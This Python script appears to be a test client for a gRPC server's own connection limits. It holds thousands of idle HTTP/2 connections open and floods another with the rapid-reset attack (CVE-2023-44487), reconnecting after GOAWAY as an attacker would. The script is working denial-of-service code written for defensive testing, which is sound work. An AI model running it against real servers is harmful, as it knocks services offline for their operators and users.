#!/usr/bin/env python3
"""An abusive HTTP/2 client, for testing the server's connection limits:
many idle connections, and one connection flooded with streams that are
opened and at once reset (the rapid-reset attack, CVE-2023-44487).

    python clients/python/flood.py --addr 127.0.0.1:50051 --idle 2000 --seconds 10

Each idle connection sends the HTTP/2 preface and its SETTINGS, then nothing.
The flood opens a Certify stream (HEADERS, no body) and resets it, again and
again; when the server ends the connection (GOAWAY), it reconnects and goes on,
as an attacker would. Writes "ready" on stderr once the idle connections are
open and the flood has begun. SIGTERM ends the flood early. Prints one JSON object: idle_opened,
idle_still_open, streams_reset, goaways (with their error codes), reconnects.
"""
import argparse
import json
import resource
import select
import signal
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


STOP = False


def stop(*_):
    global STOP
    STOP = True


def connect(host, port):
    sock = socket.create_connection((host, port), timeout=5)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def readable(sock):
    """poll(2), not select(2): descriptors past 1,024 are the point here."""
    p = select.poll()
    p.register(sock, select.POLLIN)
    return bool(p.poll(0))


def still_open(sock):
    """False once the peer has closed the connection."""
    try:
        if not readable(sock):
            return True
        return sock.recv(65536, socket.MSG_PEEK) != b""
    except OSError:
        return False


def flood(host, port, seconds, goaways):
    headers = [(":method", "POST"), (":scheme", "http"), (":authority", f"{host}:{port}"),
               (":path", "/smoothcert.v1.Certifier/Certify"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    sock, conn = connect(host, port)
    reset, reconnects = 0, 0
    end = time.monotonic() + seconds
    sys.stderr.write("ready\n")
    sys.stderr.flush()
    while time.monotonic() < end and not STOP:
        try:
            for _ in range(50):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers)
                conn.reset_stream(sid, error_code=8)  # CANCEL
                reset += 1
            sock.sendall(conn.data_to_send())
            while readable(sock):
                data = sock.recv(65536)
                if not data:
                    raise ConnectionError("closed")
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        goaways[str(event.error_code)] = goaways.get(str(event.error_code), 0) + 1
                        raise ConnectionError("goaway")
                pending = conn.data_to_send()
                if pending:
                    sock.sendall(pending)
        except (ConnectionError, OSError, h2.exceptions.ProtocolError):
            sock.close()
            sock, conn = connect(host, port)
            reconnects += 1
    sock.close()
    return reset, reconnects


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--addr", required=True)
    ap.add_argument("--idle", type=int, default=2000, help="idle connections to hold open")
    ap.add_argument("--seconds", type=float, default=10.0, help="how long to flood")
    args = ap.parse_args()
    host, port = args.addr.rsplit(":", 1)
    port = int(port)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    signal.signal(signal.SIGTERM, stop)
    idle = []
    for _ in range(args.idle):
        idle.append(connect(host, port)[0])
    goaways = {}
    reset, reconnects = flood(host, port, args.seconds, goaways)
    open_now = sum(still_open(s) for s in idle)
    for s in idle:
        s.close()
    print(json.dumps({"idle_opened": len(idle), "idle_still_open": open_now, "streams_reset": reset,
                      "goaways": goaways, "reconnects": reconnects}), flush=True)


if __name__ == "__main__":
    main()
